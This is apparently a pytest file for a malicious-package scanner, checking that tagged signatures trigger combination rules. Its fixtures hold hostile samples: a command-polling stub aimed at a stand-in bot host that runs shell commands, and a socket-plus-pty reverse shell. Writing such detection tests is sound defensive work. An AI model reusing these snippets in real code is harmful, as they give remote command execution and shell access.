"""Combinations are written over capability tags: every tag they need is carried, analysts' tags count."""

import re
from pathlib import Path

from scans.engine import TAGS, Rule, compile_rules, scan_archive
from scans.engine.combos import COMBOS, combo_tags
from .conftest import builtin_rules, make_tgz

ENGINE = Path(__file__).resolve().parents[3] / "scans" / "engine"


def test_every_tag_a_combination_needs_is_in_the_vocabulary_and_carried_by_a_builtin_signature():
    needed = combo_tags()
    assert needed, "combinations are expressed over tags"
    assert needed <= set(TAGS)
    carried = set().union(*(r.tags for r in builtin_rules()))
    assert needed - carried == set(), "a combination needs a tag no signature carries: it can never fire"


def test_the_engine_names_no_signature_id():
    for path in ENGINE.rglob("*.py"):
        assert not re.search(r"sig_\d", path.read_text()), f"{path.name} names a signature id; use a tag"


def test_combination_ids_are_engine_ids():
    assert all(c.id.startswith("eng_combo_") for c in COMBOS)


RAT = (
    "import subprocess\n"
    "BOT = 'https://chat.example/bot/poll'\n"
    "def loop(cmd):\n"
    "    return subprocess.run(cmd, shell=True, capture_output=True)\n"
)


def _package(body: str) -> bytes:
    setup = "from setuptools import setup\nsetup(name='helperkit', version='1.0.0', packages=['helperkit'])\n"
    return make_tgz({"setup.py": setup, "helperkit/__init__.py": "", "helperkit/agent.py": body}, root="helperkit-1.0.0/")


def test_an_analyst_signature_with_a_tag_takes_part_in_combinations():
    base = builtin_rules()
    plain = scan_archive(_package(RAT), compile_rules(base), filename="helperkit-1.0.0.tar.gz", ecosystem="pypi")
    assert "eng_combo_c2_exec" not in plain.rule_ids()

    analyst = Rule(id="sig_900", phase=3, name="chat_bot_poll", description="polls a chat bot endpoint",
                   pattern=r"chat\.example/bot/", severity="medium", weight=2, tags=frozenset({"bot-channel"}))
    tagged = scan_archive(_package(RAT), compile_rules([*base, analyst]), filename="helperkit-1.0.0.tar.gz",
                          ecosystem="pypi")
    assert "eng_combo_c2_exec" in tagged.rule_ids()
    assert tagged.score > plain.score


def test_withdrawing_the_only_signature_with_a_tag_stops_its_combination():
    rules = builtin_rules()
    body = "import socket, pty\ns=socket.socket()\ns.connect((host, port))\npty.spawn('/bin/sh')\n"
    full = scan_archive(_package(body), compile_rules(rules), filename="helperkit-1.0.0.tar.gz", ecosystem="pypi")
    assert "eng_combo_reverse_shell" in full.rule_ids()
    without = [r for r in rules if "shell" not in r.tags]
    cut = scan_archive(_package(body), compile_rules(without), filename="helperkit-1.0.0.tar.gz", ecosystem="pypi")
    assert "eng_combo_reverse_shell" not in cut.rule_ids()
